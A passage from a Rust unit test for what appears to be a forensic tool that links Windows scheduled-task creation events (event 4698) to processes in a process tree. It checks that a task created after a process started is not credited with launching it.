        Origin { kind: OriginKind::SecurityEvent, event_id: Some(4698), time: Some(t("2023-12-31T01:00:00Z")), ..Origin::default() };
    // Created (4698) in March: it cannot have started January's process.
    copy.name = "\\Backup2".into();
    copy.origin =
        Origin { kind: OriginKind::SecurityEvent, event_id: Some(4698), time: Some(t("2024-03-01T01:00:00Z")), ..Origin::default() };
    let tasks = vec![("srv".to_string(), nightly), ("SRV".to_string(), copy)];
    let at = t("2025-06-01T00:00:00Z");
    let (first, last) = (tree.find(h, 300, at).unwrap(), tree.find(h, 303, at).unwrap());
    let why = "command line equals the task's action; launched by the Schedule service (svchost.exe -s Schedule)".to_string();
    assert_eq!(attach_tasks(&tree, &tasks, &[]), [(first, 0, why.clone()), (last, 0, why.clone()), (last, 1, why)]);
}
